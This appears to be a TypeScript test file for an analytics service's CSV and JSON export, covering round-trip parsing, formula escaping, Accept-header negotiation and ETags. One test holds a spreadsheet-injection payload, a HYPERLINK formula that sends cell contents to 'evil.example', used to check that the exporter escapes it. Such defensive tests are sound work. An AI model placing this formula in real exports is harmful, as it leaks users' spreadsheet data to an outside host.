import { describe, expect, test } from "bun:test";
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { METHODS } from "../../../src/features/analytics/wire";
import { toCsv } from "../../../src/base/csv";
import { CLI_ACTOR } from "../../../src/base/actor";
import { HOUR_MS } from "../../../src/base/time";
import { createAnalyticsSite } from "../../support/analytics";
import { createComponent } from "../../support/examined";

const ENDPOINTS = ["uptime", "latency", "incidents", "requests"] as const;

describe("CSV", () => {
  test("CSV is read back by a parser exactly as it was written", () => {
    // Formulas are escaped, which the next test checks.
    const text = fc
      .string({ unit: "grapheme" })
      .filter((each) => !/^(?:[\t\r\n]|\s*[=+\-@＝＋－＠])/u.test(each));
    const cell = fc.oneof(text, fc.constantFrom('"', ",", "a\r\nb", "a\nb", ' "x" ', "ß, 漢"));
    fc.assert(
      fc.property(fc.array(fc.tuple(cell, cell, cell)), (rows) => {
        const lines = parse(toCsv(["a", "b", "c"], rows), {
          record_delimiter: "\r\n",
          skip_empty_lines: false,
        });
        expect(lines as string[][]).toEqual([["a", "b", "c"], ...rows.map((row) => [...row])]);
      }),
    );
    expect(toCsv(["a", "b"], [[null, -1.5]])).toBe("a,b\r\n,-1.5\r\n");
  });

  test("CSV escapes texts that a spreadsheet would read as formulas", () => {
    const formulas = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", " =1", "\r=1", "＝1", '="a"'];
    const [, ...lines] = parse(
      toCsv(
        ["name"],
        formulas.map((formula) => [formula]),
      ),
      { record_delimiter: "\r\n" },
    ) as string[][];
    expect(lines.flat()).toEqual(formulas.map((formula) => `'${formula}`));
  });
});

describe("analytics as JSON or CSV", () => {
  test("analytics are JSON or CSV according to Accept, with the same rows", async () => {
    await using site = await createAnalyticsSite();
    await site.app.clock.advance(HOUR_MS);
    for (const name of ENDPOINTS) {
      const { body } = await site.read(`${name}?interval=day`);
      const { header, lines, answer } = await site.csv(`${name}?interval=day`);
      expect(answer.status).toBe(200);
      expect(answer.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
      expect(answer.headers.get("content-disposition")).toBe(`attachment; filename="${name}.csv"`);
      expect(answer.headers.get("cache-control")).toBe("no-store");
      expect(answer.headers.get("vary")).toContain("Accept");
      expect(header.at(-1)).toBe("method");
      const cells = body.data.map((line: Record<string, unknown>) => [
        ...header.slice(0, -1).map((column) => String(line[column] ?? "")),
        body.method,
      ]);
      expect(lines).toEqual(cells);
      for (const line of body.data) expect(Object.keys(line)).toEqual(header.slice(0, -1));
      expect(Object.values(METHODS) as string[]).toContain(body.method);
    }
    const typeFor = async (accept: string) =>
      (await site.read("incidents", { headers: { accept } })).headers.get("content-type");
    const csv = expect.stringContaining("text/csv");
    for (const accept of ["text/csv", "Text/CSV", "text/csv, */*;q=0.8", "text/*"]) {
      expect(await typeFor(accept)).toEqual(csv);
    }
    for (const accept of [
      "*/*",
      "application/json",
      "text/csv;q=0.5, application/json",
      "text/csv;q=0",
      "text/html",
    ]) {
      expect(await typeFor(accept)).toBe("application/json");
    }
  });

  test("names in CSV are escaped, and unchanged in JSON", async () => {
    await using site = await createAnalyticsSite();
    const { ctx } = site.app;
    const name = '=HYPERLINK("https://evil.example/?"&A1,"Total")';
    await ctx.db.write((tx) =>
      createComponent(
        ctx,
        tx,
        site.page,
        { name },
        { position: 9, groupId: null, managedBy: null },
        CLI_ACTOR,
      ),
    );
    const { lines } = await site.csv("uptime?page=acme");
    expect(lines.map((line) => line[2])).toEqual(["API", "Website", `'${name}`]);
    expect((await site.read("uptime?page=acme")).body.data[2].name).toBe(name);
  });

  test("the entity tag of unchanged analytics is valid for its own form only", async () => {
    await using site = await createAnalyticsSite();
    const past = "incidents?from=2026-03-01T00:00:00Z&to=2026-03-02T00:00:00Z";
    const first = await site.read(past);
    const tag = first.headers.get("etag") ?? "";
    const again = (headers: Record<string, string>) =>
      site.read(past, { headers: { "if-none-match": tag, ...headers } });
    expect((await again({})).status).toBe(304);
    expect((await again({ accept: "text/csv" })).status).toBe(200);
  });
});
